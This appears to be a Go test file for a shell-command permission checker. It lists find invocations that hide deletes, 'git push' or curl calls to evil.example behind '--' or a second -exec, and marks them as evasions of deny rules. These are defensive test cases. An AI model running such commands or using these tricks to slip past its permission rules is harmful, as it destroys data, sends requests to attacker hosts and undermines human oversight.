package effectstest

const (
	findDashes  = "GNU findutils: -- ends only -H, -L and -P; an expression follows"
	findActions = "POSIX find: -exec ends at the first ;, and more actions may follow"
)

// findBehindDashes: an expression of find behind --, and actions behind the first one.
var findBehindDashes = []Trick{
	{"find -- . -delete", findDashes},
	{"find -- . -exec touch p \\;", findDashes},
	{"find -- . -fprint p", findDashes},
	{"find -P -- dd -delete", findDashes},
	{"find -- *", findDashes},
	{"find -- src", findDashes},
	{"find . -type f -exec grep foo {} \\; -exec touch p \\;", findActions},
	{"find . -type f -exec grep foo {} \\; -delete -exec grep foo {} \\;", findActions},
	{"find . -type f -exec grep foo {} \\; -fprint p -exec grep foo {} \\;", findActions},
	{"find . -type f -exec grep foo {} + -fprint p -exec grep foo {} +", findActions},
	{"find . -type f -exec echo foo \\; -o -exec cat {} +", findActions},
	{"find . -type f -exec grep foo s* {} \\;", "bash manual, Filename Expansion: a match may be named ;"},
}

// deniedByFind are programs that find runs behind -- or behind another action.
var deniedByFind = []Evasion{
	{noRm, "find -- dd -exec rm -r {} +", findDashes},
	{noRm, "find -P -- dd -execdir rm -r {} \\;", findDashes},
	{noRm, "find . -type f -exec cat {} \\; -exec rm {} \\;", findActions},
	{noRm, "find . -exec cat {} + -ok rm {} \\;", findActions},
	{"shell(git push)", "find -- . -exec git push \\;", findDashes},
	{"shell(git push)", "find . -type f -exec cat {} \\; -exec git push \\;", findActions},
	{noEvil, "find -- . -exec curl https://evil.example \\;", findDashes},
	{noEvil, "find . -type f -exec cat {} \\; -exec curl evil.example \\; -exec cat {} \\;", findActions},
}
